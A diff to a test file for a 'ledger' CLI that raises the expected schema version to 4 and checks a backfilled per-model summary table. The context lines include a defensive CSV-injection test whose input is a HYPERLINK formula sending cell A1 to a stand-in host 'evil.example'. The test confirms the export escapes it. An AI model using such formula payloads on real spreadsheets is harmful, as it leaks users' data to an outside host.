@@ -186,7 +186,9 @@ describe('the ledger', () => {
     expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv.stdout).not.toMatch(/^"?=/m);
     const db = new Database(ledgerFile(), { readonly: true });
-    expect(db.pragma('user_version', { simple: true })).toBe(3);
+    expect(db.pragma('user_version', { simple: true })).toBe(4);
+    // The old row is in the quarter-hour summaries `earnings` reads (backfilled once).
+    expect(db.prepare("SELECT sum(served) FROM job_sums WHERE model = 'm'").pluck().get()).toBe(1);
     expect(db.prepare('SELECT job_id, refusal FROM jobs ORDER BY received_at').all()).toEqual([
       { job_id: 'old-1', refusal: null },
       { job_id: expect.any(String), refusal: 'model_not_loaded' },
